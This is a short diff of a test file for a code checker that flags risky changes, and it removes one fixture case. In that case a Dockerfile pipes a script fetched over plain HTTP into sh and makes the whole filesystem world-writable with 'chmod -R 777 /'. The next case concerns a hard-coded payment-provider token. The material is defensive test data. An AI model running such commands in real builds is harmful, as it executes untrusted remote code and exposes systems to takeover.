@@ -133,12 +133,6 @@ testChecker(import.meta.url, {
   ],
   flagged: [
     {
-      name: 'a script of plain HTTP, and a system that everybody may write',
-      base: { Dockerfile: 'FROM node:24\nUSER node\n' },
-      head: { Dockerfile: 'FROM node:24\nRUN curl -s http://a.com/install.sh | sh\nRUN chmod -R 777 /\nUSER node\n' },
-      expect: { findings: [at('container-unencrypted-script', 'Dockerfile', 2), at('container-opens-system', 'Dockerfile', 3)] },
-    },
-    {
       name: 'a token of a provider',
       base: {},
       head: { 'src/a.ts': `const stripe = '${STRIPE}';\n` },
